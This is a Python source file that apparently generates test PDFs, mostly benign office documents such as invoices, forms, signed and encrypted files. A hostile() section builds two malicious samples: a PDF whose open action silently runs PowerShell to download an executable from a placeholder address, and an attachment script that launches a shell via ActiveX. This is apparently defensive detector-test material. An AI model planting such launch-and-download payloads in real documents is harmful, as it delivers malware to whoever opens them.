"""PDFs as offices make them, and what deceivers make of them."""
import io

from PIL import Image, ImageDraw
from reportlab.lib.utils import ImageReader
from reportlab.pdfgen import canvas

from programs import run


def code(text):
    return run(["qrencode", "-s", "4", "-o", "-", text])


def page(lines, link=None, picture=None, form=False):
    out = io.BytesIO()
    sheet = canvas.Canvas(out, pagesize=(595, 842), invariant=1)
    for number, line in enumerate(lines):
        sheet.drawString(60, 780 - 18 * number, line)
    if link:
        sheet.linkURL(link, (60, 640, 300, 660))
    if picture:
        sheet.drawImage(ImageReader(io.BytesIO(picture)), 400, 600, 120, 120)
    if form:
        for number, name in enumerate(("name", "iban", "date")):
            sheet.acroForm.textfield(name=name, x=60, y=500 - 40 * number, width=200, height=20)
        sheet.acroForm.checkbox(name="agreed", x=60, y=360)
    sheet.showPage()
    sheet.save()
    return out.getvalue()


def by_hand(objects):
    """A PDF of these objects, numbered from 1, the first the catalogue."""
    out, places = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n", []
    for number, content in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, content.encode())
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    return out + b"trailer << /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, start)


def one_page(catalogue, *more):
    return by_hand([f"<< /Type /Catalog /Pages 2 0 R {catalogue} >>", "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                    "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>", *more])


def attached(pdf, name, content):
    return run(["qpdf", "a.pdf", "--add-attachment", name, "--", "b.pdf"], {"a.pdf": pdf, name: content}, "b.pdf")


def fax():
    sheet = Image.new("1", (1728, 2200), 1)
    pen = ImageDraw.Draw(sheet)
    for line in range(40):
        pen.rectangle((120, 150 + 50 * line, 300 + (line * 397) % 1200, 170 + 50 * line), fill=0)
    return sheet


def as_bytes(picture, kind, **options):
    out = io.BytesIO()
    picture.save(out, kind, **options)
    return out.getvalue()


BILL = ["Litware GmbH", "Rechnung 2026-0418", "Schmierfett, 12 Kartuschen", "Summe 418,60 EUR", "Zahlbar in 14 Tagen"]
GIRO = "BCD\n002\n1\nSCT\n\nLitware GmbH\nDE00000000000000000000\nEUR418.60\n\nRE 2026-0418"
DATE_CHECK = ("var d = util.scand('dd.mm.yyyy', event.value); if (event.value && d == null) "
              "{ app.alert('Bitte ein Datum eingeben.'); event.rc = false; }")


def good():
    bill = page(BILL, link="https://www.litware.example/kunden")
    scan = as_bytes(fax(), "TIFF", compression="group4")
    field = ("<< /Type /Annot /Subtype /Widget /FT /Tx /T (datum) /Rect [60 600 260 620] "
             "/AA << /V << /S /JavaScript /JS (%s) >> >> >>" % DATE_CHECK.replace("(", "\\(").replace(")", "\\)"))
    send = ("<< /Type /Annot /Subtype /Widget /FT /Btn /T (senden) /Rect [60 500 160 520] /A << /S /SubmitForm "
            "/F << /FS /URL /F (https://www.litware.example/formular) >> /Flags 4 >> >>")
    return {
        "invoice_links": bill,
        "invoice_giro_code": page(BILL, picture=code(GIRO)),
        "invoice_pay_code": page(BILL, picture=code("https://pay.litware.example/r/20260418")),
        "invoice_pay_service_code": page(BILL, picture=code("https://buy.stripe.com/test_20260418")),
        "form_fields": page(["Antrag auf Teilnahme", "Name, IBAN, Datum"], form=True),
        "form_date_check": one_page("/AcroForm << /Fields [4 0 R] >>", field),
        "form_submits_home": one_page("/AcroForm << /Fields [4 0 R] >>", send),
        "factur_x": attached(bill, "factur-x.xml", b"<?xml version='1.0'?><CrossIndustryInvoice/>\n"),
        "with_table_inside": attached(bill, "positionen.csv", b"Pos;Menge;Preis\n1;12;34,88\n"),
        "signed": one_page("/AcroForm << /Fields [4 0 R] /SigFlags 3 >>",
                           "<< /FT /Sig /T (Signature1) /V << /Type /Sig /Filter /Adobe.PPKLite "
                           "/SubFilter /ETSI.CAdES.detached /ByteRange [0 840 960 240] /Contents <30820122> >> >>"),
        "opened_by_password": run(["qpdf", "--encrypt", "geheim", "owner", "256", "--", "a.pdf", "b.pdf"],
                                  {"a.pdf": bill}, "b.pdf"),
        "not_to_be_printed": run(["qpdf", "--encrypt", "", "owner", "256", "--print=none", "--", "a.pdf", "b.pdf"],
                                 {"a.pdf": bill}, "b.pdf"),
        "scanned": run(["img2pdf", "a.tif", "-o", "a.pdf"], {"a.tif": scan}, "a.pdf"),
        "archived_pdf_a": run(["gs", "-q", "-dPDFA=2", "-dBATCH", "-dNOPAUSE", "-sDEVICE=pdfwrite",
                               "-sColorConversionStrategy=RGB", "-sOutputFile=b.pdf", "a.pdf"], {"a.pdf": bill}, "b.pdf"),
        "for_the_web": run(["qpdf", "--linearize", "--object-streams=generate", "a.pdf", "b.pdf"], {"a.pdf": bill}, "b.pdf"),
        "opens_at_page": one_page("/OpenAction [3 0 R /Fit]"),
        "prints_itself": one_page("/OpenAction << /S /JavaScript /JS (this.print\\(true\\);) >>"),
        "catalogue_of_parts": one_page("", "<< >>").replace(
            b"/MediaBox", b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /GoToR /F (teil2.pdf) "
            b"/D [0 /Fit] >> >>] /MediaBox"),
        "opens_next_part": one_page("", "<< >>").replace(
            b"/MediaBox", b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /Launch /F (teil2.pdf) >> >>] /MediaBox"),
        "ticket_code": page(["Eintrittskarte 0041882", "Messe 17.-19. Juni"],
                            picture=code("https://www.litware.example/karte/0041882")),
    }


def hostile():
    starts = "/S /Launch /Win << /F (cmd.exe) /P (/c powershell -w hidden iwr http://192.0.2.7/a -outf a.exe) >>"
    return {
        "pdf_launch": one_page(f"/OpenAction 4 0 R /Names << /JavaScript << /Names [(a) 5 0 R] >> >>", f"<< {starts} >>",
                               "<< /S /JavaScript /JS (this.exportDataObject\\({cName:'a',nLaunch:2}\\);) >>"),
        "pdf_program_inside": attached(page(["Please open the attachment"]), "invoice.js",
                                       b"var s = new ActiveXObject('WScript.Shell'); s.Run('calc');\n"),
    }
